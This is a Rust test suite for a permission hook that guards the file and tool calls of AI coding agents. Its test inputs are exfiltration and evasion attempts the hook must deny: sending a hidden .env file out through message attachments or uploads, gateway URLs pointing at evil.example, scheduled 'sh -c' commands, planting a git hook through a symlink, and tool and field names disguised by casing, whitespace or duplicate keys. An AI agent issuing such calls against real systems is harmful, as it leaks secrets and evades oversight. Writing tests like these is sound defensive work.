//! `fs-guard-hook` as clients call it: captured payloads and attacks on them with their exact answers, and payloads that no
//! client would write.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::golden::{CLIENTS, golden, placed};
use crate::support::{World, assert_denied, feed};

/// The hook for file tools.
const FILES_HOOK: &str = env!("CARGO_BIN_EXE_fs-guard-hook");

/// A workspace with files in it, one beside it, and a link between them; `secret` says whether there is a hidden file.
fn world(secret: bool) -> World {
    let world = World::new();
    let at = |name: &str| world.workspace.join(name);
    fs::create_dir(at("src")).unwrap();
    for (name, text) in [("secret.txt", "TOP\n"), ("n.ipynb", "{}"), ("a.txt", "old\n"), ("src/main.rs", "")] {
        fs::write(at(name), text).unwrap();
    }
    if secret {
        fs::write(at(".env"), "KEY=1\n").unwrap();
    }
    fs::write(world.base.join("outside.txt"), "KEY\n").unwrap();
    symlink("../outside.txt", at("link")).unwrap();
    world
}

/// Runs the hook for `client` on a payload.
fn ask(client: &str, payload: &str) -> Output {
    let mut command = Command::new(FILES_HOOK);
    command.args(["--client", client]);
    feed(command, payload.as_bytes())
}

/// Runs the hook on a call of Claude Code.
fn call(world: &World, tool: &str, input: &Value) -> Output {
    ask("claude-code", &world.payload(tool, input, &world.workspace).to_string())
}

/// The golden files of a client.
fn files(client: &str) -> Vec<PathBuf> {
    let folder = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden-files")).join(client);
    let mut files: Vec<PathBuf> = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    files
}

/// The home folder that the hook goes by.
fn home() -> String {
    // As a file: a static program that asks the C library loads what nsswitch.conf names, and may end by that.
    let passwd = fs::read_to_string("/etc/passwd").unwrap();
    let own = nix::unistd::getuid().to_string();
    let line = passwd.lines().find(|line| line.split(':').nth(2) == Some(&own)).unwrap();
    line.split(':').nth(5).unwrap().to_owned()
}

#[test]
fn every_captured_call_and_every_attack_on_it_gets_its_exact_answer() {
    for (client, file) in
        CLIENTS.into_iter().flat_map(|client| files(client).into_iter().map(move |file| (client, file)))
    {
        let stem = file.file_stem().unwrap().to_str().unwrap().to_owned();
        let (golden, world) = (golden(&file), world(stem.starts_with("deny")));
        let payload = placed(golden.payload.get(), &world);
        world.transcribe(&payload);
        let output = ask(client, &payload);
        let expected = |text: &str| placed(&text.replace("$HOME", &home()), &world);
        let name = file.display();
        assert_eq!(String::from_utf8(output.stdout).unwrap(), expected(&golden.stdout), "{name}");
        assert_eq!(String::from_utf8(output.stderr).unwrap(), expected(&golden.stderr), "{name}");
        assert_eq!(output.status.code(), Some(golden.status), "{name}");
    }
}

#[test]
fn a_file_that_is_called_a_denial_is_one_and_no_other_is() {
    for file in CLIENTS.into_iter().flat_map(files) {
        let stem = file.file_stem().unwrap().to_str().unwrap().to_owned();
        let golden = golden(&file);
        assert_eq!(golden.status == 2, stem.starts_with("deny-"), "{}", file.display());
        assert_eq!(golden.stdout.contains("\"ask\""), stem.starts_with("ask-"), "{}", file.display());
    }
}

/// Runs the hook on a call of OpenClaw.
fn claw(world: &World, tool: &str, params: &Value) -> Output {
    let payload = json!({
        "client": "openclaw", "version": 1, "tool": tool, "kind": null, "params": params, "derived_paths": null,
        "workspace": world.workspace, "directory": null, "backend": false,
    });
    ask("openclaw", &payload.to_string())
}

/// Checks that a call of OpenClaw was denied for this reason.
fn assert_claw_denied(output: &Output, code: &str) {
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&answer["decision"], &answer["code"]), (&json!("deny"), &json!(code)), "{answer}");
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn openclaw_cannot_schedule_a_command_wherever_its_parts_stand() {
    let world = world(false);
    let stream = json!({"kind": "stream", "command": ["sh", "-c", "id"]});
    for job in [
        json!({"name": "x", "kind": "stream", "command": ["sh", "-c", "id"], "message": "go"}),
        json!({"data": {"name": "x", "schedule": stream}}),
        json!({"name": "x", "schedule ": stream}),
        json!({"name": "x", "Schedule": stream}),
        json!({"name": "x", "script": "code()", "everyMs": 60000}),
        json!({"schedule": {"kind": "every", "everyMs": 1, "argv": ["id"]}}),
        json!({"schedule": {"kind": " stream"}}),
        json!({"payload": {"kind": "agentTurn", "message": "x", "command": ["id"]}}),
        json!({"schedule": [stream]}),
        json!(stream.to_string()),
    ] {
        assert_claw_denied(&claw(&world, "automations", &json!({"action": "add", "job": job})), "tool.denied");
        assert_claw_denied(
            &claw(&world, "cron", &json!({"action": "update", "jobId": "1", "job": job})),
            "tool.denied",
        );
        assert_claw_denied(&claw(&world, "automations", &json!({"action": "add", "data": job})), "tool.denied");
    }
    for flat in [stream, json!({"script": "code()"}), json!({"gateway_url": "ws://evil.example"})] {
        let mut call = flat;
        call["action"] = json!("add");
        assert_claw_denied(&claw(&world, "automations", &call), "tool.denied");
    }
}

#[test]
fn openclaw_cannot_hide_a_field_or_value_behind_another_spelling() {
    let world = world(true);
    for (tool, params, code) in [
        ("sessions_spawn", json!({"task": "x", "project_git_url": "http://e.example/x"}), "tool.denied"),
        ("message", json!({"action": "send", "gateway_url": "ws://evil.example"}), "tool.denied"),
        ("message", json!({"action": "send", "gatewayUrl": "", "gateway_url": "ws://evil.example"}), "tool.denied"),
        ("gateway", json!({"action": "config.schema.lookup", "gateway_url": "ws://evil.example"}), "tool.denied"),
        ("nodes", json!({"action": " invoke", "invokeCommand": "system.run"}), "tool.denied"),
        ("browser", json!({"action": "importprofile "}), "tool.denied"),
        ("browser", json!({"action": "open", "target_url": "http://127.0.0.1/"}), "net.host-not-allowed"),
        ("web_fetch", json!({"URL": "http://127.0.0.1/"}), "net.host-not-allowed"),
        ("web_fetch", json!({"url": "\u{feff}http://127.0.0.1/"}), "net.host-not-allowed"),
        ("web_fetch", json!({"url": "\u{a0}http://127.0.0.1/"}), "net.host-not-allowed"),
        ("Exec", json!({"command": "id"}), "tool.denied"),
        ("exec ", json!({"command": "id"}), "tool.denied"),
        ("BASH", json!({"command": "id"}), "tool.denied"),
        ("Read", json!({"path": ".env"}), "tool.denied"),
        ("bash", json!({"command": "id", "Host": "node"}), "tool.denied"),
        (" Plugins", json!({"action": "disable"}), "tool.denied"),
    ] {
        assert_claw_denied(&claw(&world, tool, &params), code);
    }
    assert_denied(&call(&world, "bash", &json!({"command": "id"})), "tool.denied");
    assert_denied(&call(&world, "Bash ", &json!({"command": "id"})), "tool.denied");
}

#[test]
fn openclaw_cannot_send_a_hidden_file_in_any_field() {
    let world = world(true);
    let hidden = world.workspace.join(".env");
    let hidden = hidden.to_str().unwrap();
    let file_url = format!("file://{hidden}");
    for name in [
        "media",
        "mediaUrl",
        "media_url",
        "path",
        "filePath",
        "file_path",
        "fileUrl",
        "file_url",
        "url",
        "image",
        "name",
    ] {
        for text in [hidden, &file_url, &format!("MEDIA : {hidden}"), &format!("\u{a0}{hidden}")] {
            let attached = json!({"action": "send", "attachments": [{"media": "a.txt"}, {name: text, "type": "file"}]});
            let output = claw(&world, "message", &attached);
            assert_eq!(output.status.code(), Some(2), "attachments[].{name}: {text}");
            if name != "name" {
                let output = claw(&world, "message", &json!({"action": "send", name: text}));
                assert_eq!(output.status.code(), Some(2), "{name}: {text}");
            }
        }
    }
    for name in ["image", "image_url", "fileUrl", "media", "path"] {
        let output = claw(&world, "image", &json!({"prompt": "x", name: format!("MEDIA : {hidden}")}));
        assert_eq!(output.status.code(), Some(2), "{name}");
    }
    let act = json!({"action": "act", "request": {"kind": "upload", "url": "https://e.example", "paths": [hidden]}});
    assert_claw_denied(&claw(&world, "browser", &act), "fs.masked");
    let batch = json!({"action": "act", "request": {"kind": "batch", "actions": [{"kind": "x", "filePath": hidden}]}});
    assert_claw_denied(&claw(&world, "browser", &batch), "fs.masked");
}

#[test]
fn openclaw_works_on_with_these_fields() {
    let world = world(true);
    for (tool, params) in [
        ("automations", json!({"action": "list", "includeDisabled": true})),
        ("automations", json!({"action": "update", "jobId": "1", "job": {"enabled": false, "failureAlert": false}})),
        (
            "automations",
            json!({"action": "add", "job": {
                "name": "x", "schedule": {"kind": "every", "every_ms": 60000}, "sessionTarget": "isolated",
                "payload": {"kind": "agentTurn", "message": "go", "toolsAllow": ["read"]},
                "delivery": {"mode": "announce", "channel": "telegram", "to": "1"},
            }}),
        ),
        ("message", json!({"action": "send", "to": "x", "message": "done", "media": "a.txt"})),
        (
            "message",
            json!({"action": "send", "attachments": [{"type": "file", "media": "./a.txt", "mimeType": "text/plain"}]}),
        ),
        ("image", json!({"image": "https://raw.githubusercontent.com/a/b/x.png", "prompt": "what is it"})),
        ("browser", json!({"action": "act", "request": {"kind": "click", "ref": "e1"}})),
        ("browser", json!({"action": "upload", "paths": ["a.txt"]})),
        ("nodes", json!({"action": "status"})),
        ("bash", json!({"command": "make test"})),
    ] {
        let output = claw(&world, tool, &params);
        assert_eq!(output.status.code(), Some(0), "{tool} {params}: {}", String::from_utf8_lossy(&output.stderr));
        assert!(!String::from_utf8_lossy(&output.stdout).contains("ask"), "{tool} {params}");
    }
}

#[test]
fn a_link_that_leads_to_what_is_hidden_is_refused_for_every_use() {
    let world = world(true);
    symlink(".env", world.workspace.join("notes.txt")).unwrap();
    symlink(world.workspace.join(".git/hooks"), world.workspace.join("tools")).unwrap();
    fs::hard_link(world.workspace.join(".env"), world.workspace.join("copy.txt")).unwrap();
    for (name, code) in [("notes.txt", "fs.masked"), ("copy.txt", "fs.hard-link"), ("sub/../notes.txt", "fs.masked")] {
        let input = json!({ "file_path": name, "content": "x" });
        assert_denied(&call(&world, "Read", &input), code);
        assert_denied(&call(&world, "Write", &input), code);
    }
    let planted = call(&world, "Write", &json!({ "file_path": "tools/post-checkout", "content": "x" }));
    assert_eq!(planted.status.code(), Some(2), "through a link into a folder that does not exist yet");
}

#[test]
fn a_call_of_megabytes_is_judged_by_its_paths() {
    let world = world(true);
    let content = "x/y ~ ../ /etc/passwd\n".repeat(100_000);
    let write = |path: &str| call(&world, "Write", &json!({ "file_path": path, "content": content }));
    assert_eq!(write("new.txt").status.code(), Some(0));
    assert_denied(&write(".env"), "fs.masked");
    let many = json!({ "list": vec!["a/b"; 5000] });
    assert_denied(&call(&world, "mcp__x__y", &many), "hook.payload");
}

#[test]
fn a_name_given_twice_is_refused_wherever_it_stands() {
    let world = world(true);
    let payload = world.payload("Read", &json!({ "file_path": "TWICE" }), &world.workspace).to_string();
    for twice in [
        r#""file_path":"a.txt","file_path":".env""#,
        r#""file_path":".env","file_path":"a.txt""#,
        r#""file_path":"a.txt","x":{"path":"a","path":"b"}"#,
    ] {
        let payload = payload.replace(r#""file_path":"TWICE""#, twice);
        assert_eq!(ask("claude-code", &payload).status.code(), Some(2), "{twice}");
    }
}

#[test]
fn a_workspace_can_refuse_more_and_allow_nothing() {
    let world = world(false);
    let file = world.workspace.join(".lobsterpot.toml");
    let rules = |rule: &str| format!("[tools.claude-code]\nrules = [{rule}]\n");
    fs::write(&file, rules(r#"{ tool = "Read", decision = "deny", reason = "not here" }"#)).unwrap();
    let reason = assert_denied(&call(&world, "Read", &json!({ "file_path": "a.txt" })), "tool.denied");
    assert!(reason.contains("not here"), "{reason}");
    fs::write(&file, rules(r#"{ tool = "Read", decision = "allow" }"#)).unwrap();
    assert_denied(&call(&world, "Read", &json!({ "file_path": "a.txt" })), "policy.unreadable");
}

/// Names of fields that say that they hold a path.
const PATHS: [&str; 8] = ["path", "paths", "filePath", "notebook_path", "dir", "cwd", "attachments", "outputFile"];

/// Names of fields that say nothing.
const OTHERS: [&str; 6] = ["pattern", "glob", "x", "items", "url", "name"];

/// Tools, and whether a path counts in all of their fields or in those that are named like one.
const TOOLS: [(&str, bool); 9] = [
    ("Read", false),
    ("Write", false),
    ("Edit", false),
    ("NotebookEdit", false),
    ("LS", false),
    ("LSP", false),
    ("SendUserFile", false),
    ("mcp__a__b", true),
    ("Brand", true),
];

/// Spellings of the hidden file.
const SPELLINGS: [&str; 7] =
    ["$W/proj/.env", "./.env", "sub/../.env", "file://$W/proj/.env", "../proj/.env", "$W//proj/./.env", "@/.env"];

/// Inputs with this text in a field called one of `leaves`, somewhere in them.
fn hiding(spelled: &'static str, leaves: Vec<&'static str>) -> impl Strategy<Value = Value> {
    let any: Vec<&str> = PATHS.into_iter().chain(OTHERS).collect();
    let field = proptest::sample::select(any);
    let plain =
        prop_oneof![Just(json!("words")), Just(json!(7)), Just(Value::Null), Just(json!({})), Just(json!(["a"]))];
    let leaf = proptest::sample::select(leaves).prop_map(move |name| json!({ name: spelled }));
    let outer = field.clone();
    let nested = leaf.prop_recursive(3, 8, 2, move |inner| {
        let listed = (outer.clone(), inner.clone()).prop_map(|(name, value)| json!({ name: [value] }));
        prop_oneof![(outer.clone(), inner).prop_map(|(name, value)| json!({ name: value })), listed]
    });
    (nested, proptest::collection::vec((field, plain), 0..3)).prop_map(|(value, others)| {
        let mut object = value.as_object().unwrap().clone();
        for (name, other) in others.into_iter().chain([("file_path", json!("a.txt"))]) {
            object.entry(name).or_insert(other);
        }
        Value::Object(object)
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 150, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_field_of_any_file_tool_or_unknown_tool_passes_a_hidden_path(
        (tool, input) in (proptest::sample::select(TOOLS.to_vec()), proptest::sample::select(SPELLINGS.to_vec()))
            .prop_flat_map(|((tool, everywhere), spelled)| {
                let leaves = if everywhere { PATHS.into_iter().chain(OTHERS).collect() } else { PATHS.to_vec() };
                (Just(tool), hiding(spelled, leaves))
            }),
    ) {
        let world = world(true);
        let input = placed(&input.to_string(), &world);
        let output = call(&world, tool, &serde_json::from_str(&input).unwrap());
        prop_assert_eq!(output.status.code(), Some(2), "{} {}", tool, input);
    }
}
